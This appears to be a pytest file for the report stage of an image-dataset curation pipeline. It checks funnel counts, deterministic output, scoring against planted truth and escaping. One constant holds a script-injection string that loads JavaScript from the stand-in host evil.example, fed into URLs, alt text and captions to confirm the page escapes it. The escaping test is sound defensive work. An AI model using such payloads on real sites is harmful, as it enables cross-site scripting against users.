"""The report from stored tables: one page, one summary, equal bytes for equal data, numbers that agree."""

from __future__ import annotations

import base64
import io
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from PIL import Image

from dinov2_core import stage, tables
from dinov2_core.curation import vectors
from dinov2_core.errors import UserError
from dinov2_core.images.shards import ShardWriter
from dinov2_core.manifest import WHOLE, Manifest, read, write
from dinov2_core.stages import registry
from dinov2_core.storage import Store

SPEC = registry.get("curation_report")
HOSTILE = '"><script src=http://evil.example/x.js></script>'
RULE = {"similarity": 0.9, "aligned_similarity": 0.65, "alignment": 0.94, "trade": 0.0}
COUNTS = {
    "rule": RULE,
    "benchmark_rule": {"similarity": 0.45, "aligned_similarity": 1.0, "alignment": 1.0, "trade": 0.0},
    "paper": {"threshold": 0.6, "benchmark_threshold": 0.45},
    "calibration": {
        "recall": 0.95,
        "precision": 0.97,
        "benchmark_recall": 0.99,
        "benchmark_precision": 0.6,
        "paper_recall": 0.99,
        "paper_false_rate": 2e-4,
    },
}
Rows = list[dict[str, Any]]


class Lake:
    """A data root holding what each upstream stage would have left: six pool images, a seed, a benchmark picture."""

    def __init__(self, store: Store) -> None:
        self.store = store
        rng = np.random.default_rng(0)
        with ShardWriter(store, "pool") as writer:
            for name in "abcdefst":
                out = io.BytesIO()
                Image.fromarray(rng.integers(0, 256, (64, 64, 3), np.uint8)).save(out, "PNG")
                writer.add(out.getvalue(), "png", identity=name)
        self.places = writer.locations

    def located(self, rows: Rows) -> Rows:
        return [{**r, **self.places.get(str(r.get("image_id")), {})} for r in rows]

    def leave(self, name: str, found: dict[str, Any], counts: dict[str, Any] | None = None) -> None:
        partition = "2026-01" if registry.get(name).partitioned else WHOLE
        files = []
        for table, rows in found.items():
            made = rows if isinstance(rows, pa.Table) else tables.from_rows(rows, tables.SCHEMAS[table])
            files.append(self.store.write_table(f"{name}/{partition}/{table}-x-00000.parquet", made))
        write(self.store, Manifest(name, partition, "f", {}, {}, tuple(files), counts or {}))

    def fill(self) -> Lake:
        images = [
            {"image_id": i, "url": f"http://h.example/{i}{HOSTILE}", "alt": HOSTILE, "status": "stored", "reason": ""}
            for i in "abcdef"
        ]
        images += [{"url": "http://ads.example/1", "status": "refused", "reason": "blocked domain"}]
        face = {"x": 1, "y": 1, "w": 9, "h": 9, "score": 0.9}
        verdicts: Rows = [{"image_id": i, "keep": True, "reason": "", "nsfw": 0.1, "faces": []} for i in "abcd"]
        verdicts[0]["faces"] = [face]
        verdicts += [{"image_id": "e", "keep": False, "reason": "too flat", "width": 64, "height": 64}]
        verdicts += [{"image_id": "f", "keep": False, "reason": "unsafe", "nsfw": 0.99}]
        components = [
            {"image_id": "a", "component": "a", "size": 2, "keep": True, "reason": ""},
            {"image_id": "b", "component": "a", "size": 2, "keep": False, "reason": "copy of a"},
            {"image_id": "c", "component": "c", "size": 1, "keep": False, "reason": "leak of bench"},
            {"image_id": "d", "component": "d", "size": 1, "keep": True, "reason": ""},
        ]
        edge = {"a": "a", "b": "b", "similarity": 0.95, "alignment": 0.99}
        leak = {"image_id": "c", "benchmark": "bench", "benchmark_id": "t", "similarity": 0.93}
        composed = {"task": "toy", "dataset": "seeds", "queries": 1, "mode": "sample", "retrieved": 1, "final": 1}
        metric = {"dataset": "bench", "protocol": "knn", "metric": "accuracy", "low": 0.4, "high": 0.6, "count": 9}
        history = [
            {"step": s, "name": n, "value": 9.0 - s} for s in (0, 1, 2) for n in ("total", "ibot", "learning_rate")
        ]
        seed = {"image_id": "s", "dataset": "seeds", "split": "train", "label": "cat", "key": "s"}
        bench = {"image_id": "t", "dataset": "bench", "split": "test", "label": "cat", "key": "t"}
        matrix = np.eye(4, dtype=np.float32)
        self.leave("raw_crawl", {"images": self.located(images)})
        self.leave("filtered_set", {"verdicts": self.located(verdicts)})
        self.leave("copy_edges", {"edges": [edge]})
        self.leave("benchmark_sets", {"labelled": self.located([bench])})
        self.leave("benchmark_edges", {"benchmark_edges": [leak]})
        self.leave("deduplicated_set", {"components": self.located(components)}, COUNTS)
        self.leave("seed_sets", {"labelled": self.located([seed])})
        self.leave("embeddings", {"embeddings": vectors.to_table(list("abcd"), matrix)})
        self.leave("seed_embeddings", {"embeddings": vectors.to_table(["s"], matrix[:1])})
        packed = self.located([{"image_id": "d", "source": "seeds, sample"}])
        self.leave("curated_lvd", {"packed": packed, "composition": [composed]})
        self.leave("pretrained_checkpoint", {"history": history})
        scores = [{**metric, "model": "trained", "value": 0.5}, {**metric, "model": "untrained", "value": 0.3}]
        self.leave("evaluation_metrics", {"metrics": scores})
        return self

    def plant(self) -> None:
        about = {"size": "small", "origin_id": None, "transformation": None}
        rows = [{"url": r, "image_id": None, "kind": "restricted", **about} for r in ("http://ads.example/1",)]
        rows += [{"url": "x", "image_id": "c", "kind": "leak", **about, "transformation": "jpeg"}]
        path = Path(self.store.base) / "truth.parquet"
        pq.write_table(pa.Table.from_pylist(rows), path)

    def report(self, **params: Any) -> tuple[Manifest, str, str]:
        made = stage.materialise(self.store, SPEC, WHOLE, params, force=True).manifest
        names = [f.path for f in made.files]
        assert [n.rsplit(".", 1)[1] for n in names] == ["html", "md"]
        texts = [self.store.read_bytes(n).decode() for n in names]
        return made, texts[0], texts[1]


@pytest.fixture
def lake(store: Store) -> Lake:
    return Lake(store).fill()


def test_the_funnel_is_in_the_counts_on_the_page_and_in_the_summary(lake: Lake) -> None:
    made, page, summary = lake.report()
    wanted = {"references": 7, "stored": 6, "kept": 4, "deduplicated": 2, "drawn": 1}
    assert made.counts["funnel"] == wanted
    read = dict(re.findall(r'data-count="(\w+)" data-value="(\d+)"', page))
    assert {k: int(v) for k, v in read.items()} == wanted
    assert "| images stored | 6 | blocked domain 1 |" in summary


def test_hostile_addresses_and_texts_are_shown_and_do_nothing(lake: Lake) -> None:
    _, page, summary = lake.report()
    assert "<script" not in page
    assert "&lt;script src=http://evil.example/x.js&gt;" in page
    assert not re.search(r"(?:src|href)\s*=\s*[\"']?(?:https?:)?//", page.replace("&lt;script src=http://", ""))
    assert "evil.example" not in summary


def test_everything_that_was_found_has_its_place(lake: Lake) -> None:
    _, page, _ = lake.report()
    for words in (
        "too flat",
        "unsafe",
        "veiled",
        "cosine <b>0.950</b> · aligned <b>0.99</b>",
        "bench, test",
        "Faces, blurred",
        "similarity &gt; 0.9, or similarity &gt; 0.65 and aligned pixels &gt; 0.94",
        "recall 0.950, precision 0.970; the paper&#39;s: recall 0.990, 200.0 in a million",
        "Nearest neighbours",
        "total loss",
        "iBOT, masked patches",
        "k-NN on bench; the same network untrained: 30.0 %",
        "seeds, sample",
    ):
        assert words in page, words
    assert "Planted truth" not in page
    assert "learning_rate" not in page


def test_the_evaluations_pictures_are_on_the_page_and_ask_for_nothing(lake: Lake) -> None:
    store, before = lake.store, read(lake.store, "evaluation_metrics")
    assert before is not None
    assert "What the model sees" not in lake.report()[1]
    folder = "evaluation_metrics/all"
    drawn = [store.write_bytes(f"{folder}/figure-x-00000.svg", b"<svg/>")]
    rows = [{"path": drawn[0].path, "dataset": "bench", "name": "knn", "caption": f"who is taken for whom {HOSTILE}"}]
    drawn.append(store.write_bytes(f"{folder}/figures-x-00000.json", json.dumps(rows).encode()))
    write(store, replace(before, files=(*before.files, *drawn)))
    _, page, _ = lake.report()
    assert f'src="data:image/svg+xml;base64,{base64.b64encode(b"<svg/>").decode()}"' in page
    assert "bench: who is taken for whom" in page
    assert "<script" not in page


def test_the_versions_on_the_page_are_the_manifests_read(lake: Lake) -> None:
    made, page, _ = lake.report()
    assert len(made.upstream) == len(SPEC.upstream)
    for key, version in made.upstream.items():
        assert f"<td>{key}</td><td><code>{version}</code></td>" in page


def test_planted_truth_is_marked_on_the_page_and_in_the_counts(lake: Lake) -> None:
    lake.plant()
    made, page, summary = lake.report(truth="truth.parquet")
    leaks = made.counts["planted"]["deduplicated_set: benchmark leaks"]
    assert leaks == {"count": 1, "recall": 1.0, "precision": 1.0}
    assert made.counts["planted"]["raw_crawl: references accounted for"]["recall"] == 0.5
    assert "Against the planted truth" in page
    assert "| deduplicated_set | benchmark leaks | 1 | 100.0 % | 100.0 % |" in summary


def test_equal_tables_give_equal_bytes(lake: Lake) -> None:
    first, again = lake.report()[0], lake.report()[0]
    assert first == again


def test_a_changed_truth_file_makes_the_report_stale(lake: Lake) -> None:
    lake.plant()
    params = {"truth": "truth.parquet"}
    assert stage.materialise(lake.store, SPEC, WHOLE, params).fresh
    assert not stage.materialise(lake.store, SPEC, WHOLE, params).fresh
    path = Path(lake.store.base) / "truth.parquet"
    pq.write_table(pq.read_table(path).slice(0, 1), path)
    assert stage.materialise(lake.store, SPEC, WHOLE, params).fresh


def test_a_missing_or_foreign_truth_file_is_said_in_one_line(lake: Lake) -> None:
    with pytest.raises(UserError, match=r"planted truth cannot be read.*truth"):
        lake.report(truth="nowhere.parquet")
    pq.write_table(pa.table({"url": ["x"]}), Path(lake.store.base) / "foreign.parquet")
    with pytest.raises(UserError, match="no column 'image_id'"):
        lake.report(truth="foreign.parquet")
    (Path(lake.store.base) / "text.parquet").write_text("not a table")
    with pytest.raises(UserError, match="no Parquet file"):
        lake.report(truth="text.parquet")


def test_a_pool_from_which_nothing_came_through_is_still_reported(lake: Lake) -> None:
    lake.leave("filtered_set", {"verdicts": []})
    lake.leave("deduplicated_set", {"components": []}, COUNTS)
    lake.leave("copy_edges", {"edges": []})
    lake.leave("benchmark_edges", {"benchmark_edges": []})
    lake.leave("embeddings", {"embeddings": tables.schema("embeddings", dim=4).empty_table()})
    made, page, _ = lake.report()
    assert made.counts["funnel"]["kept"] == 0
    assert "Nothing was dropped" in page
